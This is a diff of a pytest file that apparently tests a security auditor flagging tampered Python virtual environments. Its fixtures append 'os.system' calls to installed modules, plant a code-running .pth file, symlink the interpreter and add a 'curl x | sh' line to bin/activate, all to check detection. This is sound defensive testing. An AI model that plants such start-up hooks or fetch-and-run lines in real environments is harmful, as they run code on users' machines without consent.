@@ -225,25 +225,52 @@ def copy_of(installed: tuple[Path, Found], tamper: Callable[[Path], object]) -> 
     return change
 
 
-def test_code_added_to_a_real_venv_is_high(tmp_path: Path, installed: tuple[Path, Found]) -> None:
-    """Beside the install above: the same environment, then a line appended to the installed module
-    (its RECORD says otherwise), a .pth that runs code at every start, or a conftest.py in it."""
-    def appended(venv: Path) -> None:
-        with next(venv.glob("lib/python3*/site-packages/tiny/__init__.py")).open("a") as file:
-            file.write("import os; os.system('id')\n")
+def appended(venv: Path) -> None:
+    with next(venv.glob("lib/python3*/site-packages/tiny/__init__.py")).open("a") as file:
+        file.write("import os; os.system('id')\n")
 
-    def pth(venv: Path) -> None:
-        write(next(venv.glob("lib/python3*/site-packages")), "zz.pth", "import os; os.system('id')\n")
 
-    def activate(venv: Path) -> None:  # the venv's own file: not verified yet (docs/audit.md)
-        with (venv / "bin/activate").open("a") as file:
-            file.write("true\n")
+def interpreter_link(venv: Path) -> None:
+    (venv / "bin/python").unlink()
+    os.symlink("../../tools/python", venv / "bin/python")
 
-    assert at_least_low(audited(tmp_path / "a", copy_of(installed, appended))) == [("B10", "high", ".venv")]
-    assert at_least_low(audited(tmp_path / "b", copy_of(installed, pth))) == [("B10", "high", ".venv")]
-    assert at_least_low(audited(tmp_path / "c", copy_of(installed, lambda venv: write(venv, "conftest.py", "")))) == [
-        ("B10", "high", ".venv")]
-    assert at_least_low(audited(tmp_path / "d", copy_of(installed, lambda venv: None))) == [("B10", "low", ".venv")]
+
+# What no installer writes in an environment it made; each found beside the same install unchanged.
+TAMPERING: dict[str, Callable[[Path], object]] = {
+    "a line appended to an installed module": appended,
+    "a .pth that runs code": lambda venv: write(next(venv.glob("lib/python3*/site-packages")), "zz.pth",
+                                                "import os; os.system('id')\n"),
+    "a conftest.py": lambda venv: write(venv, "conftest.py", ""),
+    "the interpreter linked into the workspace": interpreter_link,
+    "a link in site-packages": lambda venv: os.symlink("/tmp/x.py", next(venv.glob("lib/python3*/site-packages")) /
+                                                       "x.py"),
+}
+
+
+@pytest.mark.parametrize("tamper", TAMPERING.values(), ids=TAMPERING.keys())
+def test_what_no_installer_writes_in_a_real_venv_is_high(tmp_path: Path, installed: tuple[Path, Found],
+                                                         tamper: Callable[[Path], object]) -> None:
+    assert at_least_low(audited(tmp_path, copy_of(installed, tamper))) == [("B10", "high", ".venv")]
+
+
+def test_the_same_venv_unchanged_is_low(tmp_path: Path, installed: tuple[Path, Found]) -> None:
+    assert at_least_low(audited(tmp_path, copy_of(installed, lambda venv: None))) == [("B10", "low", ".venv")]
+
+
+def test_start_up_files_changed_in_an_existing_venv_are_critical(tmp_path: Path, installed: tuple[Path, Found]) -> None:
+    """In an environment that was there, its own start-up files are named one by one: activate, and
+    uv's and virtualenv's _virtualenv.py (imported at every start by _virtualenv.pth)."""
+    root = tmp_path / "repo"
+    copy_of(installed, lambda venv: write(next(venv.glob("lib/python3*/site-packages")), "_virtualenv.py", ""))(root)
+
+    def tamper(root: Path) -> None:
+        with (root / ".venv/bin/activate").open("a") as file:
+            file.write("curl x | sh\n")
+        write(next((root / ".venv").glob("lib/python3*/site-packages")), "_virtualenv.py", "import os\n")
+
+    site = next((root / ".venv").glob("lib/python3*/site-packages")).relative_to(root)
+    assert sorted(at_least_low(audited(root, tamper))) == [
+        ("B10", "critical", ".venv/bin/activate"), ("B10", "critical", f"{site}/_virtualenv.py")]
 
 
 def test_a_pip_install_target_is_a_tree_and_a_conftest_planted_in_it_is_not_its(tmp_path: Path, tiny: Path) -> None:
